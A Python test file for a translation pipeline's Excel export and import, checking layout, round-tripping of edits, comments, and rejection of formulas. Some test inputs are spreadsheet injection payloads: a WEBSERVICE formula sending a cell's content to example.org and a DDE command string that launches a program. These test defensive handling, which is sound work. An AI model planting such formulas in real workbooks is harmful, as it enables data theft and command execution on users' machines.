"""Workbooks: what goes out, and what people and programs make of it."""

from __future__ import annotations

import datetime
import io
import random
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from exchange_rows import COLD, DAY, ENTRIES, NEW, WINDOW, catalogue, export
from openpyxl import Workbook, load_workbook
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.comments import Comment
from openpyxl.styles import Font

from pipeline.errors import OctavillaError
from pipeline.review.catalogue import Entry
from pipeline.review.exchange import xlsx
from pipeline.review.exchange.merging import Kind, merge_batch
from pipeline.review.exchange.model import Batch

PATH = Path("back.xlsx")
EDIT = "Cierra las ventanas."


def opened(content: bytes | None = None) -> Workbook:
    return load_workbook(io.BytesIO(content or xlsx.write(export())), rich_text=True)


def saved(book: Workbook) -> bytes:
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def back(change: Callable[[Any], object]) -> Batch:
    """Return what is read of the sheet after `change` of it."""
    book = opened()
    change(book.worksheets[0])
    return xlsx.read(saved(book), PATH)


def only_change(batch: Batch) -> tuple[str, Kind]:
    """Return the one sentence that the merge of a batch changes, and how."""
    _, report = merge_batch(catalogue(), batch, "Ana", DAY)
    [row] = [row for row in report.rows if row.kind is not Kind.UNCHANGED]
    return row.source, row.kind


def test_the_same_export_gives_the_same_bytes() -> None:
    assert xlsx.write(export()) == xlsx.write(export())


def test_what_goes_out_comes_back() -> None:
    batch = xlsx.read(xlsx.write(export()), PATH)
    assert (batch.slug, batch.language, batch.kind, batch.notices) == ("window", "es", "xlsx", ())
    assert [(r.key, r.source, r.target) for r in batch.rows] == [(r.key, r.source, r.target) for r in export().rows]
    assert merge_batch(catalogue(), batch, "Ana", DAY)[0] == catalogue()


def test_the_table_is_ready_to_sort_and_filter() -> None:
    sheet = opened().worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:H5"
    assert not sheet.protection.sheet
    assert sheet.column_dimensions["H"].hidden
    assert [cell.value for cell in sheet[1]][:7] == [
        "N.º",
        "Lugar",
        "Original",
        "Traducción",
        "Estado",
        "Comentario",
        "Avisos",
    ]
    [choice] = sheet.data_validations.dataValidation
    assert choice.formula1 == '"aprobada,borrador"'
    assert [cell.value for cell in sheet["E"]][1:] == ["sin revisar", "aprobada", "sin traducir", "cambió el original"]


def test_a_stale_row_shows_the_sentence_it_was_made_for() -> None:
    assert opened().worksheets[0]["G5"].value == "El original decía: Rest **today**."


def test_the_second_sheet_says_how_to_use_it() -> None:
    sheet = opened().worksheets[1]
    assert sheet.title == "Cómo se usa"
    assert "Traducción" in str(sheet["B6"].value)


def test_an_edit_is_all_that_arrives() -> None:
    def change(sheet: Any) -> None:
        sheet["D2"].value = EDIT

    assert only_change(back(change)) == (WINDOW, Kind.TAKEN)


def test_choosing_approved_approves_and_draft_takes_it_back() -> None:
    def change(sheet: Any) -> None:
        sheet["E2"].value, sheet["E3"].value = "Aprobada ", "BORRADOR"

    assert [row.approved for row in back(change).rows] == [True, False, None, None]


def test_rows_sorted_and_deleted_columns_moved_added_and_renamed_keep_what_was_edited() -> None:
    rows = list(opened().worksheets[0].iter_rows(values_only=True))
    head, body = list(rows[0]), [list(row) for row in rows[1:]]
    body[0][3] = EDIT
    del body[2]
    random.Random(4).shuffle(body)
    order = [7, 3, 2, 4, 0]
    names = {2: "  FUENTE", 3: "traducao", 4: "Situação", 7: head[7], 0: "nº"}
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Mi título"])
    sheet.append([])
    sheet.append(["dudas", *(names[place] for place in order)])
    for row in body:
        sheet.append(["?", *(row[place] for place in order)])
        sheet.append([])
    for row in sheet.iter_rows():
        for cell in row:
            cell.font = Font(name="Comic Sans MS", size=20, bold=True)
    batch = xlsx.read(saved(book), PATH)
    assert (batch.slug, batch.language, len(batch.rows)) == ("window", "es", 3)
    assert only_change(batch) == (WINDOW, Kind.TAKEN)


def test_the_table_may_be_on_another_sheet() -> None:
    book = opened()
    book.create_sheet("Cuentas", 0).append([1, 2, 3])
    assert len(xlsx.read(saved(book), PATH).rows) == 4


def test_rich_text_is_read_as_its_words() -> None:
    def change(sheet: Any) -> None:
        sheet["D2"].value = CellRichText("Cierra ", TextBlock(InlineFont(b=True), "las"), " ventanas.")

    assert back(change).rows[0].target == EDIT


@pytest.mark.parametrize(
    ("value", "text"), [(12, "12"), (12.0, "12"), (3.5, "3,5"), (1e21, "1e+21"), ("012", "012"), ("1/5", "1/5")]
)
def test_a_number_that_somebody_typed_is_what_they_typed(value: object, text: str) -> None:
    def change(sheet: Any) -> None:
        sheet["D2"].value = value

    assert back(change).rows[0].target == text


@pytest.mark.parametrize(
    "value",
    [
        "=B2",
        '=WEBSERVICE("http://example.org/"&D3)',
        "=cmd|' /C calc'!A0",
        datetime.date(2026, 5, 1),
        datetime.time(7, 30),
        True,
        "#NAME?",
    ],
)
def test_what_is_no_words_is_left_out_with_a_notice(value: object) -> None:
    def change(sheet: Any) -> None:
        sheet["D2"].value = value
        if value == "#NAME?":
            sheet["D2"].data_type = "e"

    batch = back(change)
    assert batch.rows[0].target == ""
    assert [(n.place, "not read" in n.message) for n in batch.notices] == [("row 2", True)]
    assert merge_batch(catalogue(), batch, "Ana", DAY)[0] == catalogue()


def test_a_formula_is_never_read_by_the_value_that_stands_beside_it() -> None:
    from pipeline.review.exchange.safezip import pack, unpack

    parts = unpack(xlsx.write(export()), PATH)
    name = "xl/worksheets/sheet1.xml"
    cell = b'<c r="D2" t="str"><f>1+1</f><v>Robado</v></c>'
    import re

    parts[name] = re.sub(rb'<c r="D2".*?</c>', cell, parts[name])
    batch = xlsx.read(pack(parts.items()), PATH)
    assert batch.rows[0].target == ""


@pytest.mark.parametrize("text", ["=1+1", "+34 600", "-5 °C", "@ana", "_x0041_", "'tis", "a\tb", "= **x**"])
def test_what_looks_like_a_formula_goes_out_as_text_and_comes_back(text: str) -> None:
    entries = (Entry(source=text, target=text),)
    content = xlsx.write(export(entries))
    cells = opened(content).worksheets[0][2]
    assert not any(cell.data_type == "f" for cell in cells)
    assert b"<f>" not in content
    assert [(r.source, r.target) for r in xlsx.read(content, PATH).rows] == [(text, text)]


def test_what_xml_cannot_hold_changes_nothing_on_the_way() -> None:
    entries = (Entry(source="A.", target="a\x00\x0bb\ufffe\ud800"), Entry(source="B\nC", target="b\r\nc"))
    batch = xlsx.read(xlsx.write(export(entries)), PATH)
    assert merge_batch(catalogue(entries), batch, "Ana", DAY)[0] == catalogue(entries)


def test_a_sentence_too_long_for_a_cell_is_an_error_not_a_loss() -> None:
    with pytest.raises(OctavillaError, match="longer than a cell"):
        xlsx.write(export((Entry(source="a", target="x" * 40_000),)))


def test_comments_come_from_the_column_and_from_notes_on_cells() -> None:
    def change(sheet: Any) -> None:
        sheet["F2"].value = "¿Seguro?"
        sheet["D3"].comment = Comment("Mejor fresca.", "Bia")
        sheet["A3"].comment = Comment("Y corta.", "Bia")

    batch = back(change)
    assert [row.comment for row in batch.rows] == ["¿Seguro?", "Y corta.\nMejor fresca.", "", ""]


def test_the_name_on_the_second_sheet_is_who_worked_on_it() -> None:
    book = opened()
    book.worksheets[1]["B4"].value = " Bia Reis "
    assert xlsx.read(saved(book), PATH).who == "Bia Reis"
    assert xlsx.read(saved(opened()), PATH).who == ""


def test_a_row_with_a_translation_alone_is_told_of() -> None:
    def change(sheet: Any) -> None:
        sheet["D9"].value = "Suelta."

    batch = back(change)
    assert len(batch.rows) == 4
    assert [n.place for n in batch.notices] == ["row 9"]


def test_two_columns_of_translations_are_not_guessed_at() -> None:
    def change(sheet: Any) -> None:
        sheet["J1"].value = "Traducción"

    with pytest.raises(OctavillaError, match=r"back\.xlsx: row 1: two columns could be the translation"):
        back(change)


def test_a_column_of_ones_own_with_a_like_name_stands_back() -> None:
    def change(sheet: Any) -> None:
        sheet["J1"].value, sheet["J2"].value = "Español", "mío"

    assert back(change).rows[0].target == ENTRIES[0].target


def test_without_headings_the_way_out_is_named() -> None:
    def change(sheet: Any) -> None:
        sheet.delete_rows(1)

    with pytest.raises(OctavillaError, match=r"back\.xlsx: has no column headings"):
        back(change)


def test_columns_that_were_deleted_do_not_matter() -> None:
    def without_key(sheet: Any) -> None:
        sheet["D4"].value = "Una frase `nueva` <b>."
        sheet.delete_cols(5, 4)

    def without_source(sheet: Any) -> None:
        sheet["D4"].value = "Una frase `nueva` <b>."
        sheet.delete_cols(1, 3)

    for change in (without_key, without_source):
        assert only_change(back(change)) == (NEW, Kind.TAKEN)


def test_a_portuguese_sheet_speaks_portuguese() -> None:
    from dataclasses import replace

    sheet = opened(xlsx.write(replace(export(), language="pt", locale="pt-BR"))).worksheets[0]
    assert sheet["D1"].value == "Tradução"
    assert sheet["E2"].value == "por revisar"
    assert sheet["C3"].value == COLD
